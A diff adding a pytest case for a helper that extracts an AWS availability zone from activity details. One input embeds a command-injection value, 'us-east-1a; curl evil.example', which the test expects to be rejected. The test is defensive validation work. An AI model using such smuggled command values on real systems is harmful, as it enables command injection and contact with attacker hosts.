@@ -213,3 +213,18 @@ def test_a_group_without_a_template_or_with_several_types_is_read_as_well() -> N
     several = launches._group(size | {"MixedInstancesPolicy": mixed})
     assert (several.source, several.mixed) == (Source(template="lt-1", version="$Default"), True)
     assert not Source(template="lt-1", version="$Default").numbered
+
+
+@pytest.mark.parametrize(
+    ("details", "zone"),
+    [
+        ('{"Subnet ID":"subnet-1","Availability Zone":"us-east-1a"}', "us-east-1a"),
+        ('{"Subnet ID":"subnet-1"}', ""),
+        ('{"Availability Zone":"us-east-1a; curl evil.example"}', ""),
+        ('{"Availability Zone":7}', ""),
+        ("us-east-1a", ""),
+        ("", ""),
+    ],
+)
+def test_the_zone_of_an_activity_is_the_name_of_one_or_nothing(details: str, zone: str) -> None:
+    assert launches._zone(details) == zone
